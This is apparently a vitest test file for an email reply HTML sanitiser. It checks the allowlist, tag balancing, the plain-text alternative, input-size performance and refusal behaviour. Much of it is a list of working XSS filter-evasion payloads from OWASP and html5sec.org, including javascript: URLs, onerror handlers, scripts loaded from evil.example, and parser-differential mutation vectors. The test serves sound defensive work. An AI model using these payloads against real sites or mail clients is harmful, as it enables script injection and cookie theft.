// The reply sanitiser (worker/mail/sanitize-html.ts) inside workerd, where the runtime's HTML parser
// it is built on (HTMLRewriter) exists: the allowlist, the balancing, the text alternative, and the
// html5sec.org and OWASP filter-evasion vectors, none of which may leave an element, an attribute or
// a link address outside the allowlist. Its pure helpers (safeHref, decodeEntities) are tested in
// Node beside it.
import { describe, expect, it } from 'vitest';
import { UnreadableReplyError, safeHref, sanitizeReplyHtml } from '../../worker/mail/sanitize-html.ts';
import { EMAIL_HTML_MAX } from '../../worker/contract/schemas/email-send.ts';
import { replyMessageHtml } from '../../worker/contract/reply-templates.ts';

const html = async (input: string) => (await sanitizeReplyHtml(input)).html;
const text = async (input: string) => (await sanitizeReplyHtml(input)).text;

/** No markup a mail client could run or load: no script, handler, style, frame, form or foreign element, no dangerous URL. */
function expectInert(output: string) {
  expect(output).not.toMatch(/<(?!\/?(p|br|strong|em|b|i|u|ul|ol|li|h2|h3|h4|blockquote)>|a href="(https?|mailto|tel):[^"]*">|\/a>)/i);
  expect(output).not.toMatch(/javascript:|vbscript:|data:/i);
  expect(output).not.toMatch(/\son\w+=/i);
}

const ALLOWED_ELEMENTS = new Set(['p', 'br', 'strong', 'em', 'b', 'i', 'u', 'ul', 'ol', 'li', 'h2', 'h3', 'h4', 'blockquote', 'a']);
const ALLOWED_TAG = /<\/?(?:p|br|strong|em|b|i|u|ul|ol|li|h2|h3|h4|blockquote)>|<a href="(?:https?|mailto|tel):[^"<>]*">|<\/a>/g;

/**
 * What is wrong with `output` as a sanitised message, read twice: as a string (every '<' or '>' is
 * one of the allowlist's bare tags or a link with a safe href, so anything else was escaped as text)
 * and through the runtime's parser, as a mail client would read it (every element allowlisted, no
 * attribute but a link's href, every href one safeHref keeps as it is). Empty when nothing is.
 */
async function problemsOf(output: string): Promise<string[]> {
  const problems: string[] = [];
  const leftover = output.replace(ALLOWED_TAG, '');
  if (/[<>]/.test(leftover)) problems.push(`markup outside the allowlist: ${leftover}`);
  await new HTMLRewriter()
    .on('*', {
      element(element) {
        if (!ALLOWED_ELEMENTS.has(element.tagName)) problems.push(`element <${element.tagName}>`);
        for (const [name, value] of element.attributes) {
          if (element.tagName !== 'a' || name !== 'href') problems.push(`attribute ${name} on <${element.tagName}>`);
          else if (safeHref(value ?? '') !== value?.replaceAll('&amp;', '&')) problems.push(`href ${value}`);
        }
      },
    })
    .onDocument({ comments: () => void problems.push('a comment') })
    .transform(new Response(output, { headers: { 'Content-Type': 'text/html; charset=utf-8' } }))
    .arrayBuffer();
  return problems;
}

describe('problemsOf, the check the vectors go through', () => {
  it('finds what a sanitised message must never hold', async () => {
    expect(await problemsOf('<p>Hello <a href="https://pay.example.com/?a=1&amp;b=2">pay</a> &lt;img&gt;</p>')).toEqual([]);
    for (const bad of [
      '<img src=x>',
      '<p class="x">x</p>',
      '<a href="javascript:alert(1)">x</a>',
      '<a href="https://ok.example/" onclick="x()">x</a>',
      '<svg></svg>',
      '<!-- x -->',
      'x > y',
    ]) {
      expect(await problemsOf(bad), bad).not.toEqual([]);
    }
  });
});

/** The html5sec.org vector the parser refuses: a <style> in <select>, where only a browser's tree builder knows whether it is text. */
const SELECT_TEMPLATE_STYLE = '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">';

describe('sanitizeReplyHtml', () => {
  it('keeps the allowlisted formatting, without attributes', async () => {
    const input =
      '<h2 style="color:red">Title</h2><p class="x" id="y">Hello <strong>bold</strong> <em>it</em> <b>b</b> <i>i</i> <u>u</u><br/>next</p><ul><li>one</li><li>two</li></ul><ol><li>first</li></ol><blockquote>quote</blockquote><h3>h3</h3><h4>h4</h4>';
    expect(await html(input)).toBe(
      '<h2>Title</h2><p>Hello <strong>bold</strong> <em>it</em> <b>b</b> <i>i</i> <u>u</u><br>next</p><ul><li>one</li><li>two</li></ul><ol><li>first</li></ol><blockquote>quote</blockquote><h3>h3</h3><h4>h4</h4>',
    );
  });

  it('keeps safe links with their href only, and turns unsafe ones into their text', async () => {
    expect(await html('<a href="https://pay.example.com/x?a=1&amp;b=2" target="_blank" onclick="steal()">Pay</a>')).toBe(
      '<a href="https://pay.example.com/x?a=1&amp;b=2">Pay</a>',
    );
    expect(await html('<a href="mailto:contact@example.com">write</a> <a href=\'tel:+33184604210\'>call</a>')).toBe(
      '<a href="mailto:contact@example.com">write</a> <a href="tel:+33184604210">call</a>',
    );
    expect(await html('<a href="javascript:alert(1)">click</a> <a>no href</a> <a href="/relative">rel</a>')).toBe('click no href rel');
    // A link inside a link closes the first, as in HTML.
    expect(await html('<a href="https://a.example">a<a href="https://b.example">b</a></a>')).toBe(
      '<a href="https://a.example/">a</a><a href="https://b.example/">b</a>',
    );
  });

  it('drops other tags and keeps their text; div and other headings take the nearest allowed kind', async () => {
    expect(await html('<span style="x">a</span><font color=red>b</font><img src=x alt=y><table><tr><td>c</td></tr></table>')).toBe('abc');
    expect(await html('<div>first</div><div>second</div><h1>big</h1><h6>small</h6>')).toBe('<p>first</p><p>second</p><h2>big</h2><h4>small</h4>');
  });

  it('neutralises script, style, frames, event handlers and dangerous URLs', async () => {
    const attacks = [
      '<script>alert(1)</script>',
      '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
      '<script>alert(1)',
      '<scr<script>ipt>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '<p onmouseover="alert(1)">hover</p>',
      '<p/onclick=alert(1)>x</p>',
      '<svg onload=alert(1)><script>alert(1)</script></svg>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
      '<iframe src="javascript:alert(1)"></iframe>',
      '<object data="data:text/html,<script>alert(1)</script>"></object>',
      '<embed src="javascript:alert(1)">',
      '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
      '<link rel=stylesheet href=https://evil.example/x.css>',
      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
      '<base href="javascript:/">',
      '<form action="https://evil.example"><input name=x><button>go</button></form>',
      '<a href="javascript:alert(1)">x</a>',
      '<a href="&#106;avascript:alert(1)">x</a>',
      '<a href="jav&#x09;ascript:alert(1)">x</a>',
      '<a href=" javascript:alert(1)">x</a>',
      '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
      '<a href="vbscript:x">x</a>',
      '<a href="https://ok.example" onclick="alert(1)" style="x">ok</a>',
      '<a href="https://ok.example/"onclick=alert(1)>ok</a>',
      '<a href=https://ok.example/?q=" onclick=alert(1)">ok</a>',
      '<!--<img src=x onerror=alert(1)>-->',
      '<![CDATA[<script>alert(1)</script>]]>',
      '<p>unclosed <b>bold <i>both',
      '"><script>alert(1)</script>',
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      '<<script>script>alert(1)<</script>/script>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
      '<template><script>alert(1)</script></template>',
      '<textarea></textarea><script>alert(1)</script>',
      '<title><script>alert(1)</script></title>',
      '<p style="background:url(javascript:alert(1))">x</p>',
      '<div style="behavior:url(x.htc)">x</div>',
      '<a href="https://ok.example">\u0000<script>alert(1)</script></a>',
      '<x onclick=alert(1)>x</x>',
    ];
    for (const attack of attacks) {
      const output = await html(attack);
      expectInert(output);
      expect(output, attack).not.toMatch(/<script|<img|<iframe|<svg|<style|<object|<embed|<link|<meta|<form|<base/i);
    }
  });

  it('writes what was text as text: escaped entities stay escaped, raw quotes and brackets are escaped', async () => {
    expect(await html('&lt;script&gt;alert(1)&lt;/script&gt;')).toBe('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(await html('Tom & Jerry "quoted" \'single\' 1 < 2 > 0')).toBe('Tom &amp; Jerry &quot;quoted&quot; &#39;single&#39; 1 &lt; 2 &gt; 0');
    expect(await html('caf&eacute; &euro;450 &#8364; &nbsp;&unknown;')).toBe('café €450 € \u00a0&amp;unknown;');
    expect(await html('a\u0000b\u0007c\u009fd')).toBe('abcd');
  });

  it('balances what it keeps: unclosed tags are closed, stray end tags ignored, misnested tags closed in order', async () => {
    expect(await html('<p>unclosed <b>bold <i>both')).toBe('<p>unclosed <b>bold <i>both</i></b></p>');
    expect(await html('</b></p>text</li></a>')).toBe('text');
    expect(await html('<b><i>x</b>y</i>')).toBe('<b><i>x</i></b>y');
    expect(await html('<p>one<p>two<ul><li>a<li>b</ul>')).toBe('<p>one</p><p>two</p><ul><li>a</li><li>b</li></ul>');
    expect(await html('<p></p><b></b>x<p> </p>')).toBe('x<p> </p>');
  });

  it('flattens absurd nesting instead of following it', async () => {
    const deep = '<b>'.repeat(500) + 'x' + '</b>'.repeat(500);
    const output = await html(deep);
    expect(output.match(/<b>/g)).toHaveLength(24);
    expect(output).toContain('x');
    expect(output.match(/<\/b>/g)).toHaveLength(24);
  });

  it('is idempotent and leaves the dashboard’s own HTML as it is', async () => {
    const message = 'Dear Claire,\n\nPay here: https://pay.example.com/a?b=1&c=2.\nThank you & see you soon <3\n\nKind regards,\nThe team';
    const dashboard = replyMessageHtml(message);
    expect(await html(dashboard)).toBe(dashboard);
    const messy = '<div>Hi <b>there<a href="https://x.example">link</a></div><p>para<br>line';
    expect(await html(await html(messy))).toBe(await html(messy));
  });

  it('writes the text alternative: paragraphs, line breaks, list items, link addresses', async () => {
    expect(
      await text(
        '<h2>Your booking</h2><p>Dear   Claire,<br>\n  thank you.</p><ul><li>One</li><li>Two</li></ul><ol><li>First</li><li>Second</li></ol><p>Pay <a href="https://pay.example.com/x">here</a>, or at <a href="https://pay.example.com/y">https://pay.example.com/y</a> or <a href="mailto:a@example.com">a@example.com</a>.</p>',
      ),
    ).toBe(
      [
        'Your booking',
        '',
        'Dear Claire,',
        'thank you.',
        '',
        '• One',
        '• Two',
        '',
        '1. First',
        '2. Second',
        '',
        'Pay here (https://pay.example.com/x), or at https://pay.example.com/y or a@example.com.',
      ].join('\n'),
    );
    expect(await text('Prix&nbsp;: 450&nbsp;€')).toBe('Prix\u00a0: 450\u00a0€');
    expect(await text('<script>x</script>  ')).toBe('');
  });

  it('reads malformed markup as an HTML parser does: quoted ">", comments, stray "<", tags the input ends inside', async () => {
    expect(await html(`a<P Class=x data-y='1 2' href="h>i" checked/>b</P >`)).toBe('a<p>b</p>');
    expect(await html('<!doctype html>a<!-- <script>x</script> -->b<?php echo ?>c</ x>d</>e')).toBe('abcde');
    expect(await html('1 < 2 and 3 <= 4 <3')).toBe('1 &lt; 2 and 3 &lt;= 4 &lt;3');
    expect(await html('a\ud800b')).toBe('a\ufffdb');
    // A tag (or comment) the input ends inside is dropped with the rest, as a browser does.
    for (const cut of ['ok <a href="x', 'ok <img src=x onerror=alert(1)', 'ok </p', 'ok <!-- never closed <b>x</b>']) {
      expect(await html(cut), cut).toBe('ok');
    }
  });

  it('drops the content of scripts, styles and the like up to their end, whatever it holds', async () => {
    expect(await html('a<script>if (a < b) document.write("</p><b>")</script >b')).toBe('ab');
    expect(await html('a<STYLE>p{}</style>b<textarea><b>x</b></textarea>c')).toBe('abc');
    // Unclosed: the rest is dropped.
    expect(await html('a<script>alert(1)<p>b')).toBe('a');
    // '</scriptx>' does not end a script.
    expect(await html('<script>x</scriptx>y</script>z')).toBe('z');
    expect(await html('<svg><p>x</p><![CDATA[</svg><b>y</b>]]></svg>z<svg/>w')).toBe('zw');
    expect(await html('a<plaintext></plaintext><b>x</b>')).toBe('a');
    expect(await html('<head><title>T</title><style>p{}</style></head><body><p>Hello</p></body>')).toBe('<p>Hello</p>');
  });

  it('leaves no element, attribute or link address outside the allowlist for the html5sec.org and OWASP filter-evasion vectors', async () => {
    const vectors = [
      // OWASP XSS filter evasion cheat sheet: scripts and images, however written.
      '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
      "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
      '<IMG SRC="javascript:alert(\'XSS\');">',
      "<IMG SRC=JaVaScRiPt:alert('XSS')>",
      '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
      '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
      '<a onmouseover="alert(document.cookie)">xxs link</a>',
      '<a onmouseover=alert(document.cookie)>xxs link</a>',
      '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
      '<IMG SRC=# onmouseover="alert(\'xxs\')">',
      '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
      '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
      '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
      '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
      '<SCRIPT/SRC="https://evil.example/xss.js"></SCRIPT>',
      '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
      '<SCRIPT SRC=https://evil.example/xss.js?< B >',
      '<SCRIPT SRC=//evil.example/.j>',
      '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
      '<iframe src=https://evil.example/scriptlet.html <',
      '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
      '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
      '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
      '<IMG DYNSRC="javascript:alert(\'XSS\')"><IMG LOWSRC="javascript:alert(\'XSS\')">',
      '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
      '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
      "<svg/onload=alert('XSS')>",
      '<BGSOUND SRC="javascript:alert(\'XSS\');">',
      '<BR SIZE="&{alert(\'XSS\')}">',
      '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
      "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
      '<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">',
      '<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>',
      '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
      '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
      '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>',
      '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
      '<XSS STYLE="behavior: url(xss.htc);">',
      '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
      '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
      '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert(\'XSS\');">',
      '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
      '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
      '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD BACKGROUND="javascript:alert(\'XSS\')">x</TD></TABLE>',
      '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>',
      '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">x</DIV>',
      '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>',
      "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
      '<BASE HREF="javascript:alert(\'XSS\');//">',
      '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
      '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
      '<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>',
      '<SCRIPT =">" SRC="https://evil.example/xss.js"></SCRIPT>',
      '<SCRIPT a=">" \'\' SRC="https://evil.example/xss.js"></SCRIPT>',
      '<SCRIPT "a=\'>\'" SRC="https://evil.example/xss.js"></SCRIPT>',
      '<SCRIPT a=`>` SRC="https://evil.example/xss.js"></SCRIPT>',
      '<SCRIPT a=">\'>" SRC="https://evil.example/xss.js"></SCRIPT>',
      '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/xss.js"></SCRIPT>',
      // OWASP: link addresses disguised with references, tabs, line breaks, NULs and spaces in the scheme.
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>',
      '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
      '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>',
      '<a href="jav\tascript:alert(1);">x</a>',
      '<a href="jav&#x09;ascript:alert(1);">x</a>',
      '<a href="jav&#x0A;ascript:alert(1);">x</a>',
      '<a href="jav&#x0D;ascript:alert(1);">x</a>',
      '<a href="jav\nascript:alert(1);">x</a>',
      '<a href="java\u0000script:alert(1)">x</a>',
      '<a href="java&#0;script:alert(1)">x</a>',
      '<a href=" &#14;  javascript:alert(1);">x</a>',
      '<a href="\u0001\u0002javascript:alert(1)">x</a>',
      '<a href="javascript&colon;alert(1)">x</a>',
      '<a href="javascript&#58;alert(1)">x</a>',
      '<a href="javas&#99;ript:alert(1)">x</a>',
      '<a href="%6a%61%76%61%73%63%72%69%70%74:alert(1)">x</a>',
      '<a href=`javascript:alert(1)`>x</a>',
      '<a href="JaVaScRiPt:alert(1)">x</a>',
      '<a href="javascript:document.location=\'https://evil.example/\'">x</a>',
      '<a href="//evil.example/">x</a>',
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
      '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
      '<a href="vbscript:msgbox(1)">x</a>',
      '<a href="VBScript:msgbox(1)">x</a>',
      '<a href="livescript:alert(1)">x</a>',
      '<a href="file:///etc/passwd">x</a>',
      '<a href="h\ntt\tp://6\t6.000146.0x7.147/">allowed once read</a>',
      '<a href="tel:javascript:alert(1)">a tel: address stays a tel: address</a>',
      '<a href="https://ok.example/" title="`onmouseover=alert(1)">x</a>',
      '<a href="https://ok.example/?q=\'><script>alert(1)</script>">x</a>',
      // html5sec.org: parser differentials, raw text and comment breakouts, foreign content, mutation.
      '<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>',
      '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi',
      '<input onfocus=write(1) autofocus>',
      '<video poster=javascript:alert(1)//></video>',
      '<video><source onerror="alert(1)">',
      '<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;" />',
      '<math href="javascript:javascript:alert(1)">CLICKME</math>',
      '<math><maction actiontype="statusline#https://ok.example" xlink:href="javascript:alert(2)">CLICKME</maction></math>',
      '<svg><script xlink:href=data:,alert(1) /></svg>',
      '<svg xmlns="http://www.w3.org/2000/svg"><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)"><rect width="1000" height="1000" fill="white"/></a></svg>',
      '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>',
      '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
      '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(2)//"></svg>',
      '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>',
      '<div style="width:1px;filter:glow" onfilterchange="alert(1)">x</div>',
      "<x '=\"foo\"><x foo='><img src=x onerror=alert(1)//'>",
      '<!--<script>-->alert(1)<!--</script>-->',
      '<!--<script>--><p title="--><script>alert(1)</script>">x</p>',
      '<!--<img src="--><img src=x onerror=alert(1)//">',
      '<!--<a href="--><img src=x onerror=alert(1)//">-->',
      '<comment><img src="</comment><img src=x onerror=alert(1)//">',
      '<![><img src="]><img src=x onerror=alert(1)//">',
      '<style><img src="</style><img src=x onerror=alert(1)//">',
      '<li style=list-style:url() onerror=alert(1)></li>',
      '<head><base href="javascript://"></head><body><a href="/. /,alert(1)//#">XXX</a></body>',
      '<xmp><p title="</xmp><svg/onload=alert(1)>">',
      '<noembed><p title="</noembed><svg/onload=alert(1)>">',
      '<noframes><p title="</noframes><svg/onload=alert(1)>">',
      '<iframe><p title="</iframe><svg/onload=alert(1)>">',
      '<textarea><p title="</textarea><svg/onload=alert(1)>">',
      '<title><p title="</title><svg/onload=alert(1)>">',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<noscript><style></noscript><img src=x onerror=alert(1)>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
      '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
      '<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">',
      '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
      SELECT_TEMPLATE_STYLE,
      '<template><p title="</template><img src=x onerror=alert(1)>">',
      '<a href="javascript:alert(1)"><event-source src="event.php" onerror="alert(1)">',
      '<object data="javascript:alert(1)">',
      '<embed src="javascript:alert(1)">',
      '<isindex type=image src=1 onerror=alert(1)><isindex action=javascript:alert(1) type=image>',
      '<img src=x:alert(alt) onerror=eval(src) alt=0>',
      '<div id="x">XXX</div><style>#x{font-family:\'<img src=x onerror=alert(1)>\'}</style>',
      '<a style="-o-link:\'javascript:alert(1)\';-o-link-source:current">X</a>',
      '<frameset onload=alert(1)>',
      '<b <script>alert(1)</script>0',
      '<div/onmouseover=\'alert(1)\'> style="x:">',
      '<img src=`x` onerror=`alert(1)`>',
      '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
      '<img src=x onerror=alert(1)\u0000>',
      // CDATA, processing instructions and doctypes outside foreign content are comments.
      '<![CDATA[<script>alert(1)</script>]]>',
      '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
      '<!DOCTYPE x [<!ENTITY x "<script>alert(1)</script>">]>&x;',
      // <base>, <meta http-equiv=refresh> and <link>: nothing that changes where a link goes.
      '<base href="https://evil.example/"><a href="pay">pay</a>',
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
      '<meta http-equiv="Set-Cookie" content="session=x">',
      '<link rel=import href=https://evil.example/x.html>',
    ];
    const refused: string[] = [];
    for (const vector of vectors) {
      const sanitised = await sanitizeReplyHtml(vector).catch((error: unknown) => {
        if (error instanceof UnreadableReplyError) return undefined;
        throw error;
      });
      if (sanitised === undefined) refused.push(vector);
      else expect(await problemsOf(sanitised.html), vector).toEqual([]);
    }
    // The parser refuses what it cannot read as a browser would (a <style> inside <select>): such a
    // message is refused, never sent. Only that vector is.
    expect(refused).toEqual([SELECT_TEMPLATE_STYLE]);
    // What the parser makes of the best-known ones, as a browser would.
    expect(await html('<IMG """><SCRIPT>alert("XSS")</SCRIPT>">')).toBe('&quot;&gt;');
    expect(await html('<noscript><p title="</noscript><img src=x onerror=alert(1)>">')).toBe('&quot;&gt;');
    expect(await html('<!--<a href="--><img src=x onerror=alert(1)//">-->')).toBe('--&gt;');
    expect(await html('<a href="h\ntt\tp://6\t6.000146.0x7.147/">x</a>')).toMatch(/^<a href="http:\/\/[^"]+\/">x<\/a>$/);
  });
});

describe('sanitizeReplyHtml on the largest accepted input', () => {
  /** Elapsed milliseconds of `work`. The Workers clock stands still while code runs and moves on at I/O, so a timer is awaited on each side. */
  async function elapsed(work: () => Promise<unknown>): Promise<number> {
    const now = async () => {
      await new Promise((resolve) => setTimeout(resolve, 0));
      return Date.now();
    };
    const started = await now();
    await work();
    return (await now()) - started;
  }
  /** Read, or refused as more than the parser reads: either way an answer, never a hang or a crash. */
  const readOrRefuse = (input: string) =>
    sanitizeReplyHtml(input).catch((error: unknown) => {
      if (!(error instanceof UnreadableReplyError)) throw error;
    });

  it('reads input of every shape in time that grows with its size, never with its square (no quadratic path)', { timeout: 60_000 }, async () => {
    // Each shape at the largest size the API accepts and at an eighth of it, best of two runs each:
    // linear work takes about 8 times as long, a quadratic path 64 times. Comparing the two sizes of
    // one run, not a time limit, keeps the test meaningful on a busy machine. Under 20 ms counts as
    // 20 ms: such runs are too near the clock's grain (1 ms) and fixed costs to compare.
    const shapes: Array<[name: string, shape: (size: number) => string]> = [
      ['unclosed tags', (size) => '<a'.repeat(size / 2)],
      ['nested formatting', (size) => '<b>'.repeat(size / 3)],
      ['references', (size) => '&lt;'.repeat(size / 4)],
      ['paragraphs', (size) => '<p>x</p>'.repeat(size / 8)],
      ['empty paragraphs', (size) => '<p></p>'.repeat(size / 7)],
      ['list items', (size) => '<li>'.repeat(size / 4)],
      ['links', (size) => '<a href="https://a.example">x</a>'.repeat(Math.floor(size / 33))],
      ['quotes in a tag', (size) => `<a href="${'"'.repeat(size - 10)}`],
      ['stray end tags under deep nesting', (size) => '<b>'.repeat(Math.floor((size * 0.45) / 3)) + '</i>'.repeat(Math.floor((size * 0.55) / 4))],
      ['line breaks', (size) => '<br>x'.repeat(size / 5)],
    ];
    for (const [name, shape] of shapes) {
      const [small, large] = [shape(EMAIL_HTML_MAX / 8), shape(EMAIL_HTML_MAX)];
      expect(large.length, name).toBeLessThanOrEqual(EMAIL_HTML_MAX);
      const best = async (input: string) => Math.min(await elapsed(() => readOrRefuse(input)), await elapsed(() => readOrRefuse(input)));
      const [smallTime, largeTime] = [await best(small), await best(large)];
      expect(largeTime / Math.max(smallTime, 20), `${name}: ${smallTime} ms, then ${largeTime} ms at 8 times the size`).toBeLessThan(24);
    }
  });

  it('refuses what the parser cannot read whole: more elements left open than it follows, a <style> in a <select>', async () => {
    await expect(sanitizeReplyHtml('<b>'.repeat(33_000))).rejects.toBeInstanceOf(UnreadableReplyError);
    await expect(sanitizeReplyHtml('<li>'.repeat(25_000))).rejects.toBeInstanceOf(UnreadableReplyError);
    await expect(sanitizeReplyHtml('<p>x'.repeat(20_000))).rejects.toBeInstanceOf(UnreadableReplyError);
    await expect(sanitizeReplyHtml('<p>Hello</p><select><style>p{}</style></select>')).rejects.toBeInstanceOf(UnreadableReplyError);
    // Deep nesting below that is read, and flattened; elements closed as they go are read in any number.
    expect(await html(`${'<b>'.repeat(16_000)}x`)).toBe(`${'<b>'.repeat(24)}x${'</b>'.repeat(24)}`);
    expect(await html('<p>x</p>'.repeat(12_500))).toBe('<p>x</p>'.repeat(12_500));
    expect(await html('<select><script>x</script></select>y')).toBe('y');
  });
});
